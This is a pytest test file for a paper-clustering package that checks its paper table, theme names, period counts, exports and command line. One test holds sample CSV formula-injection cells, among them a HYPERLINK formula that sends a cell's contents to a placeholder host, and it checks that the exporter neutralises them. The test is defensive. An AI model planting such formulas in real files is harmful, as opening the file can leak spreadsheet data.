"""The paper table: one row per paper with its theme, closeness and map place."""

import copy
import json

import numpy as np
import pandas as pd
import pytest

import trends
from trends import frames, papers
from trends.errors import InputError


@pytest.fixture(scope="module")
def fitted(synthetic):
    frame, emb, _ = synthetic
    frame = frame.copy()
    frame["categories"] = [["cs.CL"] if i % 3 else ["cs.CV", "cs.AI"] for i in range(len(frame))]
    frame["venue"] = ["ACL" if i % 2 else "NeurIPS" for i in range(len(frame))]
    model = trends.ThemeModel(verbose=False).fit(frame, embeddings=emb)
    return model, frame


def test_paper_table_has_one_row_per_paper(fitted):
    model, frame = fitted
    table = papers.paper_table(model, frame)
    assert list(table.columns[:6]) == ["doc_id", "theme_id", "theme", "closeness", "x", "y"]
    assert len(table) == len(frame)
    assert table.doc_id.tolist() == frame.doc_id.tolist()
    assert (table.theme_id.to_numpy() == model.labels_).all()
    # the corpus' columns follow, values unchanged
    for column in ("title", "abstract", "published", "categories", "venue"):
        assert column in table.columns
    assert table.title.tolist() == frame.title.tolist()
    # the map places are the report's
    xy = frames.coordinates(model)
    assert np.allclose(table[["x", "y"]].to_numpy(), xy)
    # filtering is plain pandas: a theme's rows are its papers
    for row in model.themes_.itertuples():
        assert (table.theme_id == row.theme_id).sum() == row.size


def test_closeness_is_the_cosine_to_the_theme_centre(fitted):
    model, frame = fitted
    table = papers.paper_table(model, frame)
    placed = table.theme_id >= 0
    assert table.closeness[~placed].isna().all()
    assert table.closeness[placed].notna().all()
    k = int(np.flatnonzero(placed.to_numpy())[0])
    expected = float(model.embeddings_[k] @ model.centroids_[model.labels_[k]])
    assert table.closeness[k] == pytest.approx(expected, abs=1e-5)
    assert table.closeness[placed].between(-1.0001, 1.0001).all()
    # the closest paper of a theme is its first representative
    theme = int(table.theme_id[placed].iloc[0])
    best = table[table.theme_id == theme].sort_values("closeness", ascending=False).iloc[0]
    first = frames.theme_papers(model, frame, theme, limit=1)
    assert best.doc_id == first.doc_id.iloc[0]


def test_theme_names_prefer_a_name_column(fitted):
    model, frame = fitted
    unnamed = copy.copy(model)
    unnamed.themes_ = model.themes_.drop(columns="name", errors="ignore")
    names = papers.theme_names(unnamed)
    assert names[-1] == "Outliers"
    assert names[0] == model.themes_.set_index("theme_id").label[0]
    named = copy.copy(model)
    themes = unnamed.themes_.copy()
    themes["name"] = [f"Named {t}" if t != 1 else "" for t in themes.theme_id]
    named.themes_ = themes
    names = papers.theme_names(named)
    assert names[0] == "Named 0"
    assert names[1] == themes.set_index("theme_id").label[1]  # empty name: the label
    table = papers.paper_table(named, frame)
    assert set(table.theme[table.theme_id == 0]) == {"Named 0"}


def test_paper_table_aligns_a_reordered_corpus_and_rejects_another(fitted):
    model, frame = fitted
    shuffled = frame.sample(frac=1, random_state=1)
    table = papers.paper_table(model, shuffled)
    assert table.doc_id.tolist() == frame.doc_id.tolist()
    assert table.title.tolist() == frame.title.tolist()
    with pytest.raises(ValueError, match="fitted on 160"):
        papers.paper_table(model, frame.head(10))
    other = frame.assign(doc_id=[f"x{i}" for i in range(len(frame))])
    with pytest.raises(ValueError, match="missing"):
        papers.paper_table(model, other)


def test_paper_table_without_a_corpus_gives_the_texts(fitted):
    model, frame = fitted
    table = papers.paper_table(model)
    assert len(table) == len(frame)
    assert table.text.tolist() == [str(t) for t in model.texts_]


def test_facet_columns(fitted):
    model, frame = fitted
    table = frame.assign(
        source="/data/file.jsonl",
        url=[f"https://x.org/{i}" for i in range(len(frame))],
        label=[f"l{i}" for i in range(len(frame))],  # unique: not a facet
        year=2025,  # numbers are not facets
    )
    assert papers.facet_columns(table) == ["categories", "venue"]
    values, codes = papers.facet_codes(table.categories)
    assert values[0] == "cs.CL"  # most frequent first
    assert [values[c] for c in codes[0]] == ["cs.CV", "cs.AI"]
    assert papers.facet_columns(frame.assign(venue="ACL")) == ["categories"]  # one value
    # many values: the most frequent are the options, rarer ones are left out of the codes
    values, codes = papers.facet_codes(table.categories, limit=2)
    assert values == ["cs.CL", "cs.AI"] and codes[0] == [1] and codes[1] == [0]


def test_papers_per_period_picks_a_readable_period():
    days = pd.Series(pd.to_datetime(["2025-03-18", "2025-03-18", "2025-03-21", None], utc=True))
    counts = papers.papers_per_period(days)
    assert counts.attrs["freq"] == "D"
    assert counts.papers.tolist() == [2, 0, 0, 1]  # empty days too, undated left out
    long = pd.Series(pd.date_range("2000-01-01", "2020-12-31", freq="5D", tz="UTC"))
    counts = papers.papers_per_period(long)
    assert counts.attrs["freq"] == "MS" and len(counts) <= papers.MAX_PERIODS
    assert counts.papers.sum() == len(long)
    assert (counts.end >= counts.period).all()
    assert papers.papers_per_period(pd.Series([pd.NaT])).empty


def test_papers_per_period_counts_stray_dates_apart():
    # A week of a feed and one paper misdated 1970: before, 57 yearly bars, every real
    # paper in the last one, and nothing said.
    days = pd.Series(pd.bdate_range("2025-03-17", "2025-03-21", tz="UTC").repeat(40))
    days = pd.concat([days, pd.Series(pd.to_datetime(["1970-01-01"], utc=True))])
    counts = papers.papers_per_period(days)
    assert counts.attrs["freq"] == "D" and len(counts) == 5
    assert counts.papers.sum() == 200
    assert counts.attrs["stray"] == 1 and counts.attrs["stray_dates"] == ["1970-01-01"]


def test_model_paper_info_is_the_paper_table(fitted):
    model, frame = fitted
    info = model.paper_info(frame)
    pd.testing.assert_frame_equal(info, papers.paper_table(model, frame))
    assert len(info[info.theme_id == 0]) == int((model.labels_ == 0).sum())


def test_paper_info_refuses_texts_edited_since_the_fit(fitted):
    # before: an edited text was shown beside the old text's theme (closeness 0.80),
    # where assign() and training_rows() said the paper was not fitted on
    model, frame = fitted
    edited = frame.copy()
    edited.loc[7, "text"] = "A recipe for cooking pasta."
    with pytest.raises(InputError, match=r"1 of its papers have another text .* 'quantum-7'"):
        model.paper_info(edited)
    assert model.training_rows(edited)[7] == -1


def test_export_formats(fitted, tmp_path):
    import io
    import json

    model, frame = fitted
    table = papers.paper_table(model, frame)
    rows = json.loads(papers.export(table, "json"))
    assert len(rows) == len(frame) and rows[0]["categories"] == ["cs.CV", "cs.AI"]
    assert rows[0]["published"].startswith("2025-01-01")
    text = papers.export(table, "csv").decode()
    back = pd.read_csv(io.StringIO(text))
    assert back.categories[0] == "cs.CV; cs.AI" and len(back) == len(frame)
    back = pd.read_parquet(io.BytesIO(papers.export(table, "parquet")))
    assert list(back.categories[0]) == ["cs.CV", "cs.AI"]
    assert back.theme_id.tolist() == table.theme_id.tolist()
    with pytest.raises(ValueError, match="choose one of csv, json, parquet"):
        papers.export(table, "xlsx")


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe(fitted):
    """Titles are untrusted: `=HYPERLINK(...)` in a CSV runs when the file is opened."""
    import io
    import json

    model, frame = fitted
    table = papers.paper_table(model, frame).head(6).copy()
    evil = ['=HYPERLINK("http://x/?"&A1,"pdf")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tcmd"]
    evil.append("ok = fine")
    table["title"] = evil
    table["authors"] = [["=1+1", "Ada"]] + [["Ada"]] * 5
    # an input column of numbers, read as text by the loader, stays numbers
    table["score_change"] = ["-1.5", "+3", "-0.25", "2", "-7", "-inf"]
    back = pd.read_csv(io.StringIO(papers.export(table, "csv").decode()))
    assert back.score_change.tolist() == [-1.5, 3.0, -0.25, 2.0, -7.0, float("-inf")]
    assert back.title.tolist() == ["'" + t for t in evil[:5]] + ["ok = fine"]
    assert back.authors[0] == "'=1+1; Ada"
    assert back.theme_id.tolist() == table.theme_id.tolist()  # numbers stay numbers
    assert [r["title"] for r in json.loads(papers.export(table, "json"))] == evil  # exact


def test_cli_papers(tmp_path, synthetic):
    from typer.testing import CliRunner

    from trends.cli import app

    runner = CliRunner()
    frame, _, _ = synthetic
    path = tmp_path / "papers.csv"
    frame[["doc_id", "title", "abstract", "published"]].to_csv(path, index=False)
    base = ["papers", str(path), "-e", "tfidf", "-q"]
    result = runner.invoke(app, [*base, "--json"])
    assert result.exit_code == 0, result.output
    records = json.loads(result.stdout)
    assert len(records) == 160
    assert {"doc_id", "theme_id", "theme", "closeness", "x", "y", "title"} <= set(records[0])
    out = tmp_path / "out" / "papers.parquet"
    result = runner.invoke(app, [*base, "-o", str(out)])  # the format from the extension
    assert result.exit_code == 0, result.output
    table = pd.read_parquet(out)
    assert len(table) == 160 and table.doc_id.tolist() == frame.doc_id.tolist()
    result = runner.invoke(app, [*base, "--csv", "-o", str(tmp_path / "p.csv")])
    assert result.exit_code == 0
    assert (tmp_path / "p.csv").read_text().startswith("doc_id,theme_id,theme,closeness,x,y,")
    for args, message in (
        (["--csv", "--json"], "choose one of --csv, --json and --parquet"),
        (["--parquet"], "give it one with -o"),
        ([], "choose a format"),
    ):
        result = runner.invoke(app, [*base, *args])
        assert result.exit_code == 2 and message in result.output, args
